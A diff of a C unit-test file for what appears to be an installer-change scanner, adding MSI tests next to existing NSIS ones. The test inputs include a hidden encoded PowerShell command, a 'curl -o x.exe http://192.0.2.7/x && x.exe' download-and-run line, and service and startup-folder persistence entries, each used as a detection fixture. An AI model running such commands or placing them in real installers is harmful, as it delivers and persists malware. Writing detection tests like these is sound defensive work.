@@ -138,7 +138,7 @@ static struct member *read_nsi(const char *extra, const char *old)
 	buf_add_z(&b, nsi);
 	buf_add_z(&b, extra);
 	buf_add_char(&b, '\0');
-	m = read_with(&reader_nsis_lines, "setup.exe!/[install script].nsi", old, b.p ? b.p : "");
+	m = read_with(&reader_install_lines, "setup.exe!/[install script].nsi", old, b.p ? b.p : "");
 	assert_int_equal(m->covered[COVER_PARSED], m->in.new_.len);
 	buf_release(&b);
 	return m;
@@ -152,7 +152,7 @@ static void nsis_version_step(void **state)
 		"  ExecWait \"$\\\"$INSTDIR\\setup-10.0.19.exe$\\\" /S\" $0\n  StrCmp \"$0\" \"1\" +2 0\n  Goto +3\n  DetailPrint \"Done\"\nSectionEnd\n"
 		"Function .onInit\n  StrCpy $_33_ \"10.0.19\"\n  Return\nFunctionEnd\n";
 	struct member *m = read_with(
-		&reader_nsis_lines, "setup.exe!/[install script].nsi", nsi, next);
+		&reader_install_lines, "setup.exe!/[install script].nsi", nsi, next);
 
 	assert_int_equal(m->n_facts, 0);
 	member_free(m);
@@ -210,12 +210,12 @@ static void nsis_downloads(void **state)
 	assert_str(member_find(m, FACT_FLOW, NULL)->key, "net>file");
 	member_free(m);
 	/* a digit of the host is no version */
-	m = read_with(&reader_nsis_lines, "s.exe!/[install script].nsi",
+	m = read_with(&reader_install_lines, "s.exe!/[install script].nsi",
 		"  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
 		"  NSISdl::download \"http://192.0.2.9/v1/u\" \"$TEMP\\u\" ; x\n");
 	assert_int_equal(member_count(m, FACT_FLOW, NULL), 1);
 	member_free(m);
-	m = read_with(&reader_nsis_lines, "s.exe!/[install script].nsi",
+	m = read_with(&reader_install_lines, "s.exe!/[install script].nsi",
 		"  NSISdl::download \"http://192.0.2.1/v1/u\" \"$TEMP\\u\" ; x\n",
 		"  NSISdl::download \"http://192.0.2.1/v2/u\" \"$TEMP\\u\" ; x\n");
 	assert_int_equal(member_count(m, FACT_FLOW, NULL), 0);
@@ -277,15 +277,98 @@ static void nsis_many_equal_lines(void **state)
 	for (int i = 0; i < 60000; i++)
 		buf_add_z(&b, "  Exec \"notepad\"\n");
 	m = member_make("x/[install script].nsi", buf_str(&b), buf_str(&b));
-	assert_int_equal(reader_nsis_lines.read(&m->in), STATUS_OK);
+	assert_int_equal(reader_install_lines.read(&m->in), STATUS_OK);
 	assert_int_equal(m->n_facts, 0);
 	member_free(m);
 	buf_release(&b);
 }
 
+static const char msi[] =
+	"Summary \"SummaryInformation\" \"PackageCode\" \"{71808BA9-504C-4916-88B1-57FBB6EBDA68}\"\n"
+	"Property \"ProductVersion\" \"10.0.8\"\n"
+	"Property \"ProductCode\" \"{367A908E-11F1-492A-B7F2-F6C0195C8207}\"\n"
+	"CustomAction exe file deferred no-impersonate \"Register\" \"$\\\"ProgramFilesFolder/H/h.exe$\\\" /register\" \"fH\"\n"
+	"File \"ProgramFilesFolder/H/h.exe\" \"fH\" \"6\" \"\"\n"
+	"Signer \"CN=H, O=Helpdesk Example Corp\" \"CN=CA\" \"01\" \"aa\"\n";
+
+static struct member *read_msi(const char *extra)
+{
+	struct buf b;
+	struct member *m;
+
+	buf_init(&b, 1 << 20);
+	buf_add_z(&b, msi);
+	buf_add_z(&b, extra);
+	buf_add_char(&b, '\0');
+	m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi, b.p ? b.p : "");
+	buf_release(&b);
+	return m;
+}
+
+static void msi_version_step(void **state)
+{
+	static const char next[] =
+		"Summary \"SummaryInformation\" \"PackageCode\" \"{00000BA9-504C-4916-88B1-57FBB6EBDAFF}\"\n"
+		"Property \"ProductVersion\" \"10.0.9\"\n"
+		"Property \"ProductCode\" \"{DEADBEEF-11F1-492A-B7F2-F6C0195C82AB}\"\n"
+		"CustomAction exe file deferred no-impersonate \"Register\" \"$\\\"ProgramFilesFolder/H/h.exe$\\\" /register\" \"fH\"\n"
+		"File \"ProgramFilesFolder/H/h.exe\" \"fH\" \"8\" \"\"\nFile \"ProgramFilesFolder/H/more.dll\" \"fM\" \"8\" \"\"\n"
+		"Signer \"CN=H, O=Helpdesk Example Corp\" \"CN=CA\" \"02\" \"bb\"\n";
+	struct member *m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi, next);
+
+	assert_int_equal(m->n_facts, 1); /* a renewed certificate is said, and is no change of hands */
+	assert_int_equal(member_find(m, FACT_EXE_SIGNER, "subject")->flags, 0);
+	member_free(m);
+}
+
+static void msi_actions(void **state)
+{
+	struct member *m = read_msi("CustomAction vbscript binary \"V\" \"Binary.Ca.vbs\" \"Ca\" \"Main\"\n");
+
+	assert_str(member_find(m, FACT_HOOK, "msi:action")->detail, "Binary.Ca.vbs");
+	member_free(m);
+	m = read_msi("CustomAction dll binary \"D\" \"Binary.Ca!Entry\" \"Ca\"\n");
+	assert_str(member_find(m, FACT_HOOK, "msi:action")->value, "Binary.Ca!Entry (dll binary)");
+	member_free(m);
+	/* the value for a quiet call of a command, as such actions get it */
+	m = read_msi("CustomAction set property \"S\" \"powershell -w hidden -enc SQBFAFgA\" \"QtExecCmd\"\n");
+	assert_str(member_find(m, FACT_COMMAND, NULL)->key, "powershell");
+	member_free(m);
+	m = read_msi("CustomAction set property \"S\" \"[INSTALLDIR]logs\" \"LOGS\"\n");
+	assert_int_equal(m->n_facts, 0);
+	member_free(m);
+	m = read_msi("CustomAction error \"E\" \"This needs Windows 10.\" \"\"\n");
+	assert_int_equal(m->n_facts, 0);
+	member_free(m);
+	m = read_msi("CustomAction exe directory deferred \"C\" \"cmd /c curl -o x.exe http://192.0.2.7/x && x.exe\" \"D\"\n");
+	assert_int_equal(member_count(m, FACT_FLOW, "net>exec"), 1);
+	member_free(m);
+	m = read_msi("Service auto \"svc\" \"ProgramFilesFolder/H/s.exe\" \"S\" \"\"\n");
+	assert_int_equal(member_count(m, FACT_PATH, "persist"), 1);
+	member_free(m);
+	m = read_msi("CreateShortCut \"StartupFolder/S\" \"[D]s.exe\" \"\"\n");
+	assert_int_equal(member_count(m, FACT_PATH, "persist"), 1);
+	member_free(m);
+}
+
+static void msi_signer(void **state)
+{
+	struct member *m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi, "Property \"A\" \"b\"\n");
+
+	assert_non_null(member_find(m, FACT_EXE_SIGNER, "none"));
+	member_free(m);
+	m = read_with(&reader_install_lines, "setup.msi!/[install tables]", msi,
+		"Signer \"CN=X, O=Somebody Else\" \"CN=CA\" \"02\" \"bb\"\n");
+	assert_int_equal(member_find(m, FACT_EXE_SIGNER, "subject")->flags, FACT_CHANGED_VALUE);
+	member_free(m);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(msi_version_step),
+		cmocka_unit_test(msi_actions),
+		cmocka_unit_test(msi_signer),
 		cmocka_unit_test(deb_control),
 		cmocka_unit_test(deb_scripts),
 		cmocka_unit_test(python),
